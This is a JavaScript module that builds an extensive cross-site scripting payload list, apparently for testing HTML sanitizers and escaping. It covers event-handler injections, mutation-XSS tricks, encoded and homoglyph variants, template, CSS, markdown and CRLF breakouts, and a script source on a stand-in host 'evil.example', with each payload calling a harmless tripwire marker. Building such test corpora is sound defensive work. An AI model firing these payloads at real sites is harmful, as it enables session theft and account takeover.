// Texts that would run script where a page forgets to escape. Each calls tripwire(n) with a number of its own. Written by
// context: what closes an element, an attribute, a script, a style, a comment; what changes its meaning when it is parsed
// twice (mXSS); what hides in a scheme, a template or a character that is read as another.

const call = (n) => `tripwire(${n})`;

const events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart",
  "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange", "onwheel"];
const quotes = ['"', "'", "`", "&quot;", "&#34;", "&#x27;", "\\x22", "\\u0022", "\uFF02", "\u02BA"];
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:",
  "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "vbscript:", "livescript:", "feed:javascript:",
  "view-source:javascript:", "jar:javascript:", "javascript://%0a", "javascript:/*--></title></style></textarea></script>*/"];
const closers = ["</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</select>", "</xmp>", "-->",
  "]]>", "</svg>", "</math>", "</option>", "</button>", "</a>", "</p></div></main>", "*/", "?>", "%>"];

const elements = [
  (c) => `<script>${c}</script>`,
  (c) => `<SCRIPT/x>${c}</SCRIPT\t>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `<script type=module>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img/src="x"/onerror="${c}">`,
  (c) => `<img src=x:x onerror\n=\n${c}>`,
  (c) => `<image href=x onerror=${c}>`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg/onload=${c}//`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:,${c}"/></svg>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set onbegin=${c} attributeName=x>`,
  (c) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${c}</script></svg>#x"></use></svg>`,
  (c) => `<svg><foreignObject><iframe srcdoc="<script>parent.${c}</script>"></iframe></foreignObject></svg>`,
  (c) => `<math href="javascript:${c}">x</math>`,
  (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${c}">x</maction></math>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<iframe srcdoc="&lt;script&gt;parent.${c}&lt;/script&gt;"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<object data="data:text/html,<script>parent.${c}</script>"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<body onload=${c}>`,
  (c) => `<body onpageshow=${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<select autofocus onfocus=${c}><option>x</select>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<details open ontoggle=${c}><summary>x</summary></details>`,
  (c) => `<video src=x onerror=${c}></video>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<audio src=x onerror=${c}></audio>`,
  (c) => `<marquee onstart=${c}>x</marquee>`,
  (c) => `<form action="javascript:${c}"><button>x</button></form>`,
  (c) => `<form id=f></form><button form=f formaction="javascript:${c}">x</button>`,
  (c) => `<isindex type=image src=1 onerror=${c}>`,
  (c) => `<link rel=stylesheet href="data:text/css,*{}" onload=${c}>`,
  (c) => `<link rel=preload as=script href=x onerror=${c}>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${c}>x</b>`,
  (c) => `<style>@import "data:text/css,";</style><script>${c}</script>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${c}</script>`,
  (c) => `<base href="javascript:/${c}/"><a href="#">x</a>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<a href="data:text/html,<script>opener.${c}</script>">x</a>`,
  (c) => `<a ping="javascript:${c}" href=x>x</a>`,
  (c) => `<table background="javascript:${c}"><tr><td>x</table>`,
  (c) => `<div style="background:url(javascript:${c})">x</div>`,
  (c) => `<div style="width:expression(${c})">x</div>`,
  (c) => `<xss onfocus=${c} tabindex=1 autofocus>x</xss>`,
  (c) => `<x contenteditable onblur=${c}>x</x>`,
  (c) => `<portal src="javascript:${c}"></portal>`,
  (c) => `<dialog open onclose=${c}>x</dialog>`,
  (c) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${c}>x</div>`,
  (c) => `<noembed><img title="</noembed><img src=x onerror=${c}>"></noembed>`,
];

const mutations = [
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${c}&gt;">`,
  (c) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${c} src>">`,
  (c) => `<svg></p><style><a id="</style><img src=x onerror=${c}>">`,
  (c) => `<p id="a<b title='</p><img src=x onerror=${c}>'>">`,
  (c) => `<template><script>${c}</script></template><img src=x onerror=${c}>`,
  (c) => `<div><template shadowrootmode=open><img src=x onerror=${c}></template></div>`,
  (c) => `<listing>&lt;img src=x onerror=${c}&gt;</listing>`,
  (c) => `<xmp><img src=x onerror=${c}></xmp>`,
  (c) => `<plaintext><img src=x onerror=${c}>`,
  (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>"></textarea>`,
  (c) => `<a title="--><img src=x onerror=${c}>"><!--`,
  (c) => `<!--><img src=x onerror=${c}>-->`,
  (c) => `<!--[if gte IE 4]><script>${c}</script><![endif]-->`,
  (c) => `<![CDATA[<img src=x onerror=${c}>]]>`,
  (c) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script>`,
  (c) => `&lt;img src=x onerror=${c}&gt;`,
  (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`,
  (c) => `%3Cimg%20src%3Dx%20onerror%3D${c}%3E`,
  (c) => `%253Cimg%2520src%253Dx%2520onerror%253D${c}%253E`,
  (c) => `\\u003cimg src=x onerror=${c}\\u003e`,
  (c) => `\\x3cimg src=x onerror=${c}\\x3e`,
  (c) => `＜img src=x onerror=${c}＞`,
  (c) => `\u02C2img src=x onerror=${c}\u02C3`,
  (c) => `<img\u00A0src=x\u00A0onerror=${c}>`,
  (c) => `<img\u000Csrc=x\u000Conerror=${c}>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<ſcript>${c}</ſcript>`,
  (c) => `<ıframe srcdoc="<script>${c}</script>">`,
  (c) => `\u202E<img src=x onerror=${c}>\u202C`,
  (c) => `\uFEFF<script>${c}</script>`,
  (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
];

const breakouts = [
  (c) => `</script><script>${c}</script>`,
  (c) => `</script ><img src=x onerror=${c}>`,
  (c) => `<!--<script>${c}//-->`,
  (c) => `";${c}//`,
  (c) => `';${c}//`,
  (c) => `\\";${c}//`,
  (c) => `\\';${c}//`,
  (c) => `\`;${c}//`,
  (c) => `\${${c}}`,
  (c) => `"}];${c};[{"`,
  (c) => `"-${c}-"`,
  (c) => `'-${c}-'`,
  (c) => `\u2028${c}\u2028`,
  (c) => `\n${c}\n`,
  (c) => `{"__html":"<img src=x onerror=${c}>"}`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `{{$on.constructor('${c}')()}}`,
  (c) => `[[${c}]]`,
  (c) => `#{${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `*{x:expression(${c})}`,
  (c) => `}</style><img src=x onerror=${c}>`,
  (c) => `url(javascript:${c})`,
  (c) => `[x](javascript:${c})`,
  (c) => `![x](x"onerror="${c})`,
  (c) => `<javascript:${c}>`,
  (c) => `[x]: javascript:${c}`,
  (c) => `$(function(){${c}})`,
  (c) => `=HYPERLINK("javascript:${c}")`,
  (c) => `\r\nContent-Type: text/html\r\n\r\n<script>${c}</script>`,
  (c) => `x\u0000<script>${c}</script>`.replace("\u0000", ""),
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `//evil.example/x.js`.concat(`#${c}`),
];

function texts() {
  const made = [...elements, ...mutations, ...breakouts];
  for (const quote of quotes) {
    for (const event of events) made.push((c) => `${quote} ${event}=${c} autofocus tabindex=1 x=${quote}`);
    made.push((c) => `${quote}><img src=x onerror=${c}>`);
  }
  for (const scheme of schemes) {
    made.push((c) => `${scheme}${c}`);
    made.push((c) => `<a href="${scheme}${c}">x</a>`);
  }
  for (const closer of closers) {
    made.push((c) => `${closer}<img src=x onerror=${c}>`);
    made.push((c) => `${closer}<svg onload=${c}>`);
  }
  return made.map((text, n) => text(call(n)));
}

export const payloads = texts();
